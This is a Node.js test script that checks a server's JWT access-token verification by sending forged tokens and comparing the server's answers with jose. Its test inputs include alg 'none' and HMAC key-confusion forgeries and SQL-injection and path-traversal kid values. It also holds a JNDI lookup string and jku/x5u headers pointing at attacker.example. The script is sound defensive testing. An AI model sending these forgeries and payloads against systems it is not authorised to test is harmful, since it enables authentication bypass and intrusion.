// Checks a running server's access tokens with jose, a verifier that is not ours, and shows the server
// what was forged from them. One line for each case; exits 1 when one came out otherwise than expected.
//
//   node verify.mjs <base url> <access token>
//
// The token is a live one; it is not used up. ISSUER and AUDIENCE in the environment default to the base url.
import { createHmac, createSign, generateKeyPairSync, createPublicKey } from 'node:crypto'
import { createLocalJWKSet, createRemoteJWKSet, calculateJwkThumbprint, exportJWK, jwtVerify } from 'jose'

const [base, honest] = [process.argv[2]?.replace(/\/$/, ''), process.argv[3] ?? process.env.ACCESS_TOKEN]
if (!base || !honest) {
  console.error('usage: node verify.mjs <base url> <access token>')
  process.exit(2)
}
const rules = {
  algorithms: ['ES256'],
  typ: 'at+jwt',
  issuer: process.env.ISSUER ?? base,
  audience: process.env.AUDIENCE ?? base,
  requiredClaims: ['exp', 'iat', 'nbf', 'sub', 'sid', 'jti', 'auth_time'],
}
const jwksUrl = new URL(`${base}/.well-known/jwks.json`)
const published = createRemoteJWKSet(jwksUrl, { cooldownDuration: 1000 })

let cases = 0
let wrong = 0
function tell(holds, name, what) {
  cases += 1
  wrong += holds ? 0 : 1
  console.log(`${holds ? 'ok   ' : 'WRONG'} ${name}: ${what}`)
}

/** What jose says: accepted, or the code of its refusal. */
async function byJose(token, keys = published) {
  try {
    await jwtVerify(token, keys, rules)
    return 'accepted'
  } catch (refusal) {
    if (!refusal.code?.startsWith('ERR_J') || refusal.code === 'ERR_JWKS_TIMEOUT') throw refusal
    return refusal.code
  }
}

/** What the server says: a status. */
async function byServer(token) {
  const answer = await fetch(`${base}/api/v1/auth/me`, { headers: { authorization: `Bearer ${token}` } })
  await answer.arrayBuffer()
  return answer.status
}

async function accepted(name, token) {
  const [jose, server] = [await byJose(token), await byServer(token)]
  tell(jose === 'accepted' && server === 200, name, `jose ${jose}, server ${server}`)
}

async function refused(name, token, statuses = [401]) {
  const [jose, server] = [await byJose(token), await byServer(token)]
  tell(jose !== 'accepted' && statuses.includes(server), name, `jose ${jose}, server ${server}`)
}

/** For what jose forgives and we do not: only the server is asked. */
async function refusedByServer(name, token) {
  const server = await byServer(token)
  tell(server === 401, name, `server ${server}`)
}

const shown = (value) => JSON.stringify(value).slice(0, 44)
const text = (value) => (typeof value === 'string' ? value : JSON.stringify(value))
const encoded = (value) => Buffer.from(value).toString('base64url')
const [head, body, signature] = honest.split('.')
const header = JSON.parse(Buffer.from(head, 'base64url'))
const claims = JSON.parse(Buffer.from(body, 'base64url'))
const raw = Buffer.from(signature, 'base64url')

// A key of the forger's own. What it signs is what we would sign if somebody told us to.
const forger = generateKeyPairSync('ec', { namedCurve: 'P-256' })
function signedByForger(anyHeader, anyClaims) {
  const input = `${encoded(text(anyHeader))}.${encoded(text(anyClaims))}`
  const sign = createSign('sha256').update(input)
  return `${input}.${sign.sign({ key: forger.privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`
}
const trustsForger = createLocalJWKSet({
  keys: [{ ...(await exportJWK(forger.publicKey)), kid: header.kid, alg: 'ES256', use: 'sig' }],
})

/** Claims under a key that nobody published: refused for the key here, and by jose for the claims alone too. */
async function refusedFor(name, code, anyHeader, anyClaims) {
  const token = signedByForger(anyHeader, anyClaims)
  await refused(name, token)
  const jose = await byJose(token, trustsForger)
  tell(jose === code, `${name}, under a trusted key`, `jose ${jose}`)
}

// The keys
const answer = await fetch(jwksUrl)
const { keys } = await answer.json()
tell(answer.status === 200 && /json/.test(answer.headers.get('content-type')), 'the keys', `${answer.status}, ${keys.length}`)
tell(/max-age=[1-9]/.test(answer.headers.get('cache-control')), 'the keys may be kept', answer.headers.get('cache-control'))
tell(new Set(keys.map((key) => key.kid)).size === keys.length, 'each key has its name', keys.map((key) => key.kid).join(' '))
for (const key of keys) {
  const isPublic = key.kty === 'EC' && key.crv === 'P-256' && key.alg === 'ES256' && key.use === 'sig' && !('d' in key)
  tell(isPublic && key.kid === (await calculateJwkThumbprint(key)), 'a public P-256 key named by its thumbprint', key.kid)
}
const publicKey = keys.find((key) => key.kid === header.kid)
tell(publicKey !== undefined, 'the key of the token is published', header.kid)

// The honest token, and the second signature that every ECDSA signature has
await accepted('the honest token', honest)
const order = BigInt('0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551')
const number = (bytes) => BigInt(`0x${bytes.toString('hex')}`)
const bytes = (value) => Buffer.from(value.toString(16).padStart(64, '0'), 'hex')
const [r, s] = [raw.subarray(0, 32), raw.subarray(32)]
await accepted('s and n - s are both signatures', withSignature(Buffer.concat([r, bytes(order - number(s))])))
tell((await byJose(signedByForger(header, claims), trustsForger)) === 'accepted', 'the forger is able', 'jose accepted')

// Algorithms
for (const alg of ['none', 'None', 'NONE']) {
  await refused(`alg ${alg} without a signature`, `${encoded(text({ ...header, alg }))}.${body}.`)
  await refused(`alg ${alg} with the signature`, `${encoded(text({ ...header, alg }))}.${body}.${signature}`)
}
const key = createPublicKey({ key: publicKey, format: 'jwk' })
const secrets = {
  'as PEM': key.export({ type: 'spki', format: 'pem' }),
  'as DER': key.export({ type: 'spki', format: 'der' }),
  'as JWK': text(publicKey),
  'as the JWKS': text({ keys }),
  'as a point': Buffer.concat([Buffer.from([4]), Buffer.from(publicKey.x, 'base64url'), Buffer.from(publicKey.y, 'base64url')]),
}
for (const [form, secret] of Object.entries(secrets)) {
  for (const alg of ['HS256', 'ES256']) {
    const input = `${encoded(text({ ...header, alg }))}.${body}`
    await refused(`a MAC with the public key ${form}, alg ${alg}`, `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`)
  }
}
for (const alg of ['ES384', 'ES512', 'ES256K', 'RS256', 'PS256', 'EdDSA', 'es256', '', null, 256]) {
  await refused(`alg ${shown(alg)}`, `${encoded(text({ ...header, alg }))}.${body}.${signature}`)
}

// Names of keys
for (const kid of [
  'unknown',
  'A'.repeat(43),
  '',
  null,
  1,
  ['x'],
  '../../../../../../dev/null',
  '/etc/passwd',
  'file:///dev/null',
  `${base}/.well-known/jwks.json`,
  "' OR '1'='1",
  "x' UNION SELECT 'c2VjcmV0' --",
  '"; DROP TABLE signing_key; --',
  '${jndi:ldap://attacker.example/x}',
  '%00',
  `${header.kid}\u0000`,
  ` ${header.kid}`,
  'k'.repeat(3000),
]) {
  await refused(`kid ${shown(kid)}`, `${encoded(text({ ...header, kid }))}.${body}.${signature}`)
  await refused(`kid ${shown(kid)}, signed by the forger`, signedByForger({ ...header, kid }, claims))
}
const { kid: _, ...nameless } = header
await refused('no kid', signedByForger(nameless, claims))
await refused('our kid, signed by the forger', signedByForger(header, claims))

// A header that brings its own key, or more than we understand
const jwk = await exportJWK(forger.publicKey)
for (const [name, more] of Object.entries({
  jku: { jku: 'https://attacker.example/jwks.json' },
  'jku at our own address': { jku: jwksUrl.href },
  jwk: { jwk },
  x5u: { x5u: 'https://attacker.example/cert.pem' },
  x5c: { x5c: [forger.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')] },
  crit: { crit: ['exp'], exp: 1 },
  'crit of nothing': { crit: [] },
  'crit b64': { crit: ['b64'], b64: false },
  zip: { zip: 'DEF' },
})) {
  await refused(name, signedByForger({ ...header, ...more }, claims))
  await refused(`${name}, without our kid`, signedByForger({ ...nameless, ...more }, claims))
  await refused(`${name}, put into the honest header`, `${encoded(text({ ...header, ...more }))}.${body}.${signature}`)
}

// Claims
const now = Math.floor(Date.now() / 1000)
const without = (name) => Object.fromEntries(Object.entries(claims).filter(([claim]) => claim !== name))
const MISMATCH = 'ERR_JWT_CLAIM_VALIDATION_FAILED'
for (const typ of ['JWT', 'refresh', 'id+jwt', 'logout+jwt', '']) {
  await refusedFor(`typ ${shown(typ)}`, MISMATCH, { ...header, typ }, claims)
}
for (const iss of ['https://attacker.example', `${claims.iss}/`, claims.iss.toUpperCase(), '', null]) {
  await refusedFor(`iss ${shown(iss)}`, MISMATCH, header, { ...claims, iss })
}
for (const aud of ['https://attacker.example', `${claims.aud}/`, '', [], null]) {
  await refusedFor(`aud ${shown(aud)}`, MISMATCH, header, { ...claims, aud })
}
for (const name of ['iss', 'aud', 'exp', 'iat', 'nbf', 'sub', 'sid', 'jti', 'auth_time']) {
  await refusedFor(`no ${name}`, MISMATCH, header, without(name))
}
await refusedFor('expired', 'ERR_JWT_EXPIRED', header, { ...claims, exp: now - 60 })
await refusedFor('expired this very second', 'ERR_JWT_EXPIRED', header, { ...claims, exp: now })
await refusedFor('not yet valid', MISMATCH, header, { ...claims, nbf: now + 600, iat: now + 600, exp: now + 1200 })
await refusedFor('exp as a text', MISMATCH, header, { ...claims, exp: `${now + 600}` })
await refused('another user', `${head}.${encoded(text({ ...claims, sub: '00000000-0000-7000-8000-000000000000' }))}.${signature}`)
await refused('a longer life', `${head}.${encoded(text({ ...claims, exp: claims.exp + 86_400 }))}.${signature}`)

// Members that come twice, and other JSON
const doubled = (json, name) => text(json).replace(/^\{/, `{${JSON.stringify(name)}:${JSON.stringify(json[name])},`)
for (const name of ['alg', 'typ', 'kid']) {
  await refused(`${name} twice in the header`, `${encoded(doubled(header, name))}.${body}.${signature}`)
}
for (const name of ['iss', 'sub', 'exp']) {
  await refused(`${name} twice in the claims`, `${head}.${encoded(doubled(claims, name))}.${signature}`)
}
for (const json of ['', '{}', '[]', 'null', '"x"', '1', '{', '{"alg":"ES256"', '\u0000', '\ufeff{}', '{}{}']) {
  await refused(`header ${shown(json)}`, `${encoded(json)}.${body}.${signature}`)
  await refused(`claims ${shown(json)}`, `${head}.${encoded(json)}.${signature}`)
}

// Signatures
function withSignature(value) {
  return `${head}.${body}.${value.toString('base64url')}`
}
function der(first, second) {
  const integer = (value) => {
    const positive = value[0] & 0x80 ? Buffer.concat([Buffer.from([0]), value]) : value
    return Buffer.concat([Buffer.from([2, positive.length]), positive])
  }
  const content = Buffer.concat([integer(first), integer(second)])
  return Buffer.concat([Buffer.from([0x30, content.length]), content])
}
const zero = Buffer.alloc(32)
const ones = Buffer.alloc(32, 0xff)
for (const [name, value] of Object.entries({
  'r and s zero': Buffer.alloc(64),
  'r zero': Buffer.concat([zero, s]),
  's zero': Buffer.concat([r, zero]),
  'r and s one': Buffer.concat([bytes(1n), bytes(1n)]),
  'r the order': Buffer.concat([bytes(order), s]),
  's the order': Buffer.concat([r, bytes(order)]),
  'r and s the order': Buffer.concat([bytes(order), bytes(order)]),
  'r and s all ones': Buffer.concat([ones, ones]),
  'r and s exchanged': Buffer.concat([s, r]),
  'DER in place of P1363': der(r, s),
  'DER of zeros': der(Buffer.from([0]), Buffer.from([0])),
  'none at all': Buffer.alloc(0),
  'one byte': raw.subarray(0, 1),
  'r alone': r,
  'a byte less': raw.subarray(0, 63),
  'a byte more': Buffer.concat([raw, Buffer.from([0])]),
  'a zero in front of each': Buffer.concat([Buffer.from([0]), r, Buffer.from([0]), s]),
  'twice': Buffer.concat([raw, raw]),
  'a bit flipped': Buffer.concat([raw.subarray(0, 63), Buffer.from([raw[63] ^ 1])]),
})) {
  await refused(`signature: ${name}`, withSignature(value))
}

// Around the token
for (const [name, token] of Object.entries({
  'two parts': `${head}.${body}`,
  'four parts': `${honest}.${signature}`,
  'five parts': `${honest}..`,
  'no header': `.${body}.${signature}`,
  'no claims': `${head}..${signature}`,
  'a header of another token': `${encoded(text({ ...header, x: 1 }))}.${body}.${signature}`,
})) {
  await refused(name, token)
}
await refusedByServer('padding after the signature', `${honest}==`)
const last = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
const tail = last[last.indexOf(honest.at(-1)) ^ 1]
await refusedByServer('the same signature in another text', honest.slice(0, -1) + tail)

// Sizes. A request with so long a header may be refused before anybody looks into it.
await refused('a header of 100 KB', `${encoded(text({ ...header, x: 'x'.repeat(100_000) }))}.${body}.${signature}`, [401, 431])
await refused('claims of 100 KB', `${head}.${encoded(text({ ...claims, x: 'x'.repeat(100_000) }))}.${signature}`, [401, 431])
await refused('a header of 4 KB', `${encoded(text({ ...header, x: 'x'.repeat(4_000) }))}.${body}.${signature}`)

// None of this did any harm
await accepted('the honest token still', honest)
console.log(wrong === 0 ? `all ${cases} cases as expected` : `${wrong} of ${cases} cases WRONG`)
process.exit(wrong === 0 ? 0 : 1)
